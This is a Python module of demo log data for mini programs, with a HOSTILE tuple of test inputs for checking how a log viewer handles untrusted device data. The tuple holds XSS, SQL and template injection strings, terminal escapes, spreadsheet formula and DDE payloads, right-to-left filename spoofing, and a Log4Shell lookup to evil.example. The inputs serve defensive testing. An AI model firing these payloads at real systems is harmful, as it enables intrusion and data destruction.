"""What the demo's mini programs write into their logs."""

from __future__ import annotations

from typing import NamedTuple

from devmgmt.logs.entry import ERROR, INFO, WARN


class Script(NamedTuple):
    """One program: about how many entries, what its filterMsg names, and what it says on its pages.

    {n} is the number of what the launch is about, {few} a small number, {ms} a duration. `fresh` is an error of the
    version that is being tried.
    """

    entries: int
    noun: str
    pages: tuple[str, ...]
    infos: tuple[str, ...]
    warnings: tuple[str, ...]
    errors: tuple[str, ...]
    fresh: str = ""


SCRIPTS: dict[str, Script] = {
    "City Bus": Script(
        entries=17_000,
        noun="stop",
        pages=("pages/index/index", "pages/stop/index", "pages/stop/index", "pages/route/index", "pages/ticket/index"),
        infos=(
            "arrivals loaded {few} lines in {ms} ms",
            "open stop {n} from scan",
            "open stop {n} from pages/index/index",
            "favourite added stop {n}",
            "live socket open, line {few}",
            "timetable of {few} lines refreshed in {ms} ms",
            "ticket shown, valid for {few} more minutes",
        ),
        warnings=(
            "retry 2 of 3 GET /v2/stops/{n}",
            "slow render {ms} ms",
            "arrivals: empty answer for line {few}",
            "location is off, the last stop {n} is shown",
        ),
        errors=(
            "request:fail url not in domain list",
            "request:fail timeout",
            "request:fail timeout",
            "downloadFile:fail 404 https://timetables.citybus.example/{n}.pdf",
            "connectSocket:fail closed with 1006 after {few} s",
        ),
        fresh=(
            "TypeError: Cannot read properties of undefined (reading 'eta')\n"
            "    at format (pages/stop/index.js:31:22)\n"
            "    at Page.render (pages/stop/index.js:58:9)"
        ),
    ),
    "Flower Market": Script(
        entries=5_500,
        noun="order",
        pages=("pages/index/index", "pages/bouquet/index", "pages/cart/index"),
        infos=(
            "{few} bouquets loaded in {ms} ms",
            "cart has {few} items, order {n}",
            "address chosen for order {n}",
            "order {n} paid",
        ),
        warnings=("slow render {ms} ms", "bouquet {n} is sold out", "retry 2 of 3 GET /v3/bouquets/{n}"),
        errors=("request:fail timeout", "requestPayment:fail order {n} was cancelled", "chooseAddress:fail auth deny"),
    ),
    "Clinic Booking": Script(
        entries=2_500,
        noun="booking",
        pages=("pages/index/index", "pages/doctor/index", "pages/booking/index"),
        infos=(
            "{few} free times loaded in {ms} ms",
            "booking {n} confirmed",
            "reminder for booking {n} set",
        ),
        warnings=("slow render {ms} ms", "booking {n} was changed on another device"),
        errors=(
            "request:fail timeout",
            "RangeError: Invalid time value\n    at toISOString (pages/booking/index.js:12:5)",
        ),
    ),
}

# Level, page, filterMsg, text: what devices also send.
HOSTILE: tuple[tuple[int, str, str, str], ...] = (
    (ERROR, "pages/index/index", "<b>bold</b>", "<script>alert(document.cookie)</script> & </td></tr>"),
    (
        WARN,
        "pages/index/index",
        "\x1b[31mred\x1b[0m",
        "\x1b[2J\x1b[1;31mterminal colours\x1b[0m, a bell \x07 and a NUL \x00",
    ),
    (INFO, "pages/search/index", '=HYPERLINK("https://evil.example")', "=cmd|' /C calc'!A0"),
    (INFO, "pages/search/index", "@SUM(1+1)", "+1-1 looks like a formula too"),
    (WARN, "pages/stop/index", "'; DROP TABLE stops; --", "%s {n} {{ 7*7 }} ${jndi:ldap://evil.example/a} \\u0000"),
    (
        ERROR,
        "pages/stop/index",
        "\u202egnp.exe",
        "right to left: \u202eevif enil\u202c, and back; \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    ),
    (INFO, "pages/route/index", "long", "x" * 5_000),
    (
        INFO,
        "pages/route/index",
        "mixed",
        "line one\r\nline two\n\n\ttabbed, \u4f60\u597d, \U0001f68c\U0001f3fd, e\u0301\u0301\u0301\u0301",
    ),
)
